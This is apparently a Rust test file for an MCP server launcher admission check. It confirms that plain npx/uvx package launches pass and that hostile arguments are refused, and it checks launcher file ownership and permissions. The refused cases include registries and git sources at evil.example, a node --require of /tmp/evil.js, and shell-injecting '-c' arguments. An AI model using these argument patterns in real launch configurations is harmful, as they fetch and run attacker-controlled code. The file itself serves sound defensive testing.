//! The launcher check ([`crate::launcher`]) on real files, with what a server runs read as the
//! admission reads it ([`crate::servers::Runs`]). A module of its own because it tests the two
//! together: inside `launcher` its tests would import `servers`, which imports `launcher`.

use crate::launcher::{check as check_with, system_file, unchangeable};
use std::ffi::OsStr;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::PathBuf;
use toolgate_settings::{ServerConfig, Transport};

/// A folder made by the test, owned by whoever runs it; the owner the checks expect is that
/// user, so the test means the same run as root or not.
struct Place {
    dir: PathBuf,
    owner: u32,
}

impl Place {
    fn new(name: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("launcher-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("bin")).expect("dir");
        for d in [&dir, &dir.join("bin")] {
            std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).expect("mode");
        }
        let owner = std::fs::metadata(&dir).expect("dir").uid();
        Place { dir, owner }
    }

    fn tool(&self, name: &str) -> PathBuf {
        let file = self.dir.join("bin").join(name);
        std::fs::write(&file, "#!/bin/sh\n").expect("tool");
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).expect("mode");
        file
    }

    fn path(&self) -> std::ffi::OsString {
        self.dir.join("bin").into_os_string()
    }
}

impl Drop for Place {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn stdio(command: &str, args: &[&str]) -> ServerConfig {
    ServerConfig::stdio("s", command, args.iter().copied())
}

fn check(server: &ServerConfig, path: &OsStr, owner: u32) -> Result<(), String> {
    check_with(server, &crate::servers::Runs::of(server), path, owner)
}

/// Whether the test's build folder is itself only the test user's to change (the walk
/// from `/` reads it too); when not, the positive cases cannot hold here.
fn trusted_root(place: &Place) -> bool {
    unchangeable(&place.dir, place.owner).is_ok()
}

#[test]
fn only_known_flags_and_a_plain_package_are_admitted() {
    let place = Place::new("flags");
    for tool in ["npx", "npm", "node", "uvx", "python3"] {
        place.tool(tool);
    }
    let ok = |c: &str, a: &[&str]| check(&stdio(c, a), &place.path(), place.owner);
    if trusted_root(&place) {
        assert_eq!(
            ok("npx", &["-y", "@modelcontextprotocol/server-memory"]),
            Ok(())
        );
        assert_eq!(
            ok("uvx", &["mcp-server-time==2025.1.1", "--tz", "UTC"]),
            Ok(())
        );
    }
    for (command, args) in [
        ("npx", &["--registry", "https://evil.example", "@mcp/x"][..]),
        ("npx", &["--node-options=--require=/tmp/evil.js", "@mcp/x"]),
        ("npx", &["-c", "sh -c evil", "@mcp/x"]),
        ("npx", &["-p", "@mcp/x", "sh"]),
        ("npx", &["--package=@mcp/x", "sh"]),
        ("npx", &["@mcp/x@npm:evil"]),
        ("npx", &["@mcp/x@evil/repo"]),
        ("npx", &["@mcp/x@file:../evil"]),
        ("uvx", &["--with", "evil", "mcp-server-time"]),
        (
            "uvx",
            &["--index-url", "https://evil.example", "mcp-server-time"],
        ),
        (
            "uvx",
            &["--from", "mcp-server-time", "python", "-c", "evil"],
        ),
        ("uvx", &["mcp-server-time@git+https://evil.example/x"]),
        ("pnpm", &["dlx", "@mcp/x"]),
    ] {
        let refused = ok(command, args);
        assert!(refused.is_err(), "{command} {args:?} was admitted");
    }
    let mut with_env = stdio("npx", &["@mcp/x"]);
    if let Transport::Stdio { env, .. } = &mut with_env.transport {
        env.insert("PATH".into(), "/home/me/bin".into());
    }
    with_env.allow_env = vec!["PATH".into()];
    assert!(check(&with_env, &place.path(), place.owner)
        .unwrap_err()
        .contains("PATH"));
}

#[test]
fn a_launcher_someone_else_can_change_is_not_the_real_one() {
    let place = Place::new("owner");
    let npx = place.tool("npx");
    if !trusted_root(&place) {
        return;
    }
    assert_eq!(system_file(&npx, place.owner), Ok(()));
    // Another user's file: the user's own script named npx.
    let not_ours = place.owner.wrapping_add(1000);
    let why = system_file(&npx, not_ours).unwrap_err();
    assert!(why.contains("belongs to user"), "{why}");
    // Writable by others, or in a folder others can write.
    std::fs::set_permissions(&npx, std::fs::Permissions::from_mode(0o775)).expect("mode");
    assert!(system_file(&npx, place.owner)
        .unwrap_err()
        .contains("can be changed by other users"));
    std::fs::set_permissions(&npx, std::fs::Permissions::from_mode(0o755)).expect("mode");
    let bin = place.dir.join("bin");
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o777)).expect("mode");
    assert!(system_file(&npx, place.owner).is_err());
    // Sticky, as /tmp and /nix/store are: others cannot replace root's entries.
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o1777)).expect("mode");
    assert_eq!(system_file(&npx, place.owner), Ok(()));
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).expect("mode");
    // A link in the system place to a file someone else can change.
    let elsewhere = place.dir.join("loose");
    std::fs::create_dir_all(&elsewhere).expect("dir");
    std::fs::set_permissions(&elsewhere, std::fs::Permissions::from_mode(0o777)).expect("mode");
    let target = elsewhere.join("npx-cli.js");
    std::fs::write(&target, "").expect("file");
    let link = bin.join("npx-link");
    std::os::unix::fs::symlink(&target, &link).expect("link");
    assert!(system_file(&link, place.owner).is_err());
}
